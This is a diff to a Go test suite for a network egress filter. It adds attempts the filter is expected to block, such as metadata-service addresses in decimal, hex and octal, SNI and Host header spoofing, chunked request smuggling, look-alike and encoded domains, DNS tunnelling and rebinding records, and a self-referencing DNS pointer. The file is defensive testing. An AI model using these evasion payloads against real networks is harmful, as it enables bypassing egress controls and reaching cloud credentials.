@@ -27,7 +27,17 @@ var hostileZone = []string{
 	"mixed.files.test. mixed.files.test. 0 AAAA fd00:ec2::254", "mixed.files.test. mixed.files.test. 0 AAAA " + far6,
 	"off.files.test. off.files.test. 60 A " + far4, "off.files.test. off.files.test. 60 AAAA " + far6,
 	"off.files.test. git.test. 60 A " + other4, "off.files.test. git.test. 60 AAAA " + other6,
+	"two.files.test. two.files.test. 60 A " + second4, "two.files.test. two.files.test. 60 AAAA " + second6,
 	"loop.files.test. loop.files.test. 60 CNAME loop2.files.test.", "loop.files.test. loop2.files.test. 60 CNAME loop.files.test.",
+}
+
+// hostileServer is how else that name server answers.
+var hostileServer = []string{
+	"-turn", "flip.files.test. flip.files.test. 0 A " + far4, "-turn", "flip.files.test. flip.files.test. 0 A 169.254.169.254",
+	"-turn", "flip.files.test. flip.files.test. 0 AAAA " + far6, "-turn", "flip.files.test. flip.files.test. 0 AAAA fd00:ec2::254",
+	// A record whose name begins where it begins: \xc0\x25 points to its own place.
+	"-raw", "pointers.files.test. " + base64.StdEncoding.EncodeToString([]byte("\xc0\x25\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc6\x33\x64\x0a")),
+	"-many", ".flood.test.",
 }
 
 // hello is the first flight of a TLS client, in records of at most so many bytes.
@@ -106,17 +116,33 @@ func hostileCommands(t *testing.T) []attempt {
 	tlsTo := func(name, outer string, record, chunk int) func(bool) []string {
 		return bytesTo(far4, far6, 8443, base64.StdEncoding.EncodeToString(hello(t, name, outer, record)), chunk)
 	}
+	request := func(text string) func(bool) []string {
+		return bytesTo(far4, far6, 8080, base64.StdEncoding.EncodeToString([]byte(text)), 0)
+	}
 	const index = "egress[0] index"
 	header := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
 	return []attempt{
 		{name: "the metadata service in decimal", command: curl("http://2852039166/"), only: "IPv4", reason: "special:metadata"},
 		{name: "the metadata service in hexadecimal", command: curl("http://0xa9fea9fe/"), only: "IPv4", reason: "special:metadata"},
+		{name: "the metadata service in octal", command: curl("http://0251.0376.0251.0376/"), only: "IPv4", reason: "special:metadata"},
+		{name: "a link-local neighbour by its zone", command: func(v6 bool) []string {
+			return []string{"sh", "-c", `ip -6 neigh replace fe80::7 lladdr 52:55:0a:00:02:02 dev tap0 && exec "$@"`, "sh", peerBin(), "dial", "-timeout", "1s", at("fe80::7%tap0", portWhoami)}
+		}, only: "IPv6", reason: "drop_spoofed_source"},
 		{name: "a granted server by its bare address", command: curl("http://FAR:8080/"), reason: index},
 		{name: "a granted server without SNI", command: curl("https://FAR:8443/"), reason: index},
 		{name: "a granted server by another SNI", command: curl("--resolve", "evil.test:8443:FAR", "https://evil.test:8443/"), reason: index},
 		{name: "another SNI in records of one byte", command: tlsTo("evil.test", "", 1, 0), reason: index},
 		{name: "another SNI in segments of one byte", command: tlsTo("evil.test", "", 1<<14, 1), reason: index},
 		{name: "another SNI, encrypted beside the right one", command: tlsTo("evil.test", "pypi.test", 1<<14, 0), reason: index},
+		{name: "a granted name's SNI at another granted name's address", command: func(v6 bool) []string {
+			return []string{"sh", "-c", `dig +short "$1" two.files.test A two.files.test AAAA && shift && exec "$@"`, "sh", "@" + pick(v6, dns4, dns6),
+				peerBin(), "dial", "-timeout", "4s", "-send-base64", base64.StdEncoding.EncodeToString(hello(t, "pypi.test", "", 1<<14)), at(pick(v6, second4, second6), 8443)}
+		}, reason: index},
+		{name: "a request that names another host in its first line", command: request("GET http://evil.test:8080/ HTTP/1.1\r\nHost: pypi.test:8080\r\n\r\n"), reason: "tcp_first_bytes_malformed"},
+		{name: "a request with two hosts", command: request("GET / HTTP/1.1\r\nHost: pypi.test:8080\r\nHost: evil.test:8080\r\n\r\n"), reason: "tcp_first_bytes_malformed"},
+		{name: "a request with a folded host", command: request("GET / HTTP/1.1\r\nHost:\r\n evil.test:8080\r\n\r\n"), reason: "tcp_first_bytes_malformed"},
+		{name: "a request inside another one's body", command: request("POST / HTTP/1.1\r\nHost: pypi.test:8080\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test:8080\r\n\r\n"), reason: "tcp_first_bytes_malformed"},
+		{name: "another Host with a dot at its end", command: curl("-H", "Host: evil.test.", "http://pypi.test:8080/"), reason: index},
 		{name: "a granted server by another Host", command: curl("-H", "Host: evil.test", "http://pypi.test:8080/"), reason: index},
 		{name: "another Host on a kept connection", command: curl("http://pypi.test:8080/none", "--next", "-gsSk", "-m", "5", "-H", "Host: evil.test", "http://pypi.test:8080/"), reason: index},
 		{name: "CONNECT through an allowed proxy", command: curl("-p", "-x", "http://pypi.test:8080", "https://OTHER:8443/"), reason: index},
@@ -126,6 +152,10 @@ func hostileCommands(t *testing.T) []attempt {
 		{name: "a look-alike before a name", command: dig("evilpypi.test"), reason: "refusedName"},
 		{name: "a look-alike behind a name", command: dig("pypi.test.evil.io"), reason: "refusedName"},
 		{name: "an escaped dot in a name", command: dig(`evil\.pypi.test`), reason: "refusedName"},
+		{name: "a look-alike in another alphabet", command: dig("xn--ypi-zed.test"), reason: "refusedName"},
+		{name: "another alphabet's letter as it is", command: dig("+noidnin", `\209\128ypi.test`), reason: "refusedName"},
+		{name: "an ideographic full stop for a dot", command: dig("+noidnin", `pypi\227\128\130test`), reason: "refusedName"},
+		{name: "the canary of browsers", command: dig("use-application-dns.net"), reason: "refusedName"},
 		{name: "a zero byte in a name", command: dig(`pypi.test\000.evil.io`), reason: "refusedName"},
 		{name: "another resolver over UDP", command: func(v6 bool) []string {
 			return []string{"dig", "+tries=1", "+time=2", "@" + pick(v6, other4, other6), "evil.test"}
@@ -139,6 +169,8 @@ func hostileCommands(t *testing.T) []attempt {
 		{name: "a type that tunnels", command: func(v6 bool) []string {
 			return []string{"dig", "+tries=1", "+time=2", "@" + pick(v6, dns4, dns6), "pypi.test", "TXT"}
 		}, reason: "refusedType"},
+		{name: "a name that looks encoded", command: dig("secret.mfzwizltoqytemzugq2tmobzgaytcmrtgq2d.k3lnn5yhexg5dvm5ys7uwv3j4xq.tunnel.test"), reason: "refusedTunnel"},
+		{name: "a name of many labels", command: dig(strings.Repeat("secret.", 15) + "tunnel.test"), reason: "refusedTunnel"},
 		{name: "a label that carries data", command: dig(strings.Repeat("secret", 10) + ".files.test"), reason: "refusedTunnel"},
 		{name: "rebinding to loopback", command: dig("rebind.files.test"), reason: "recordsRebound"},
 		{name: "rebinding to the metadata service", command: dig("meta.files.test"), reason: "recordsRebound"},
@@ -146,6 +178,7 @@ func hostileCommands(t *testing.T) []attempt {
 		{name: "rebinding through NAT64", command: dig("mapped.files.test"), only: "IPv6", reason: "recordsRebound"},
 		{name: "a closed address among open ones", command: dig("mixed.files.test"), reason: "recordsRebound"},
 		{name: "records that nobody asked for", command: dig("off.files.test"), reason: "recordsForeign"},
+		{name: "a pointer loop in an answer", command: dig("pointers.files.test"), reason: "answersRefused"},
 		{name: "aliases in a loop", command: dig("loop.files.test"), reason: "answersRefused"},
 	}
 }
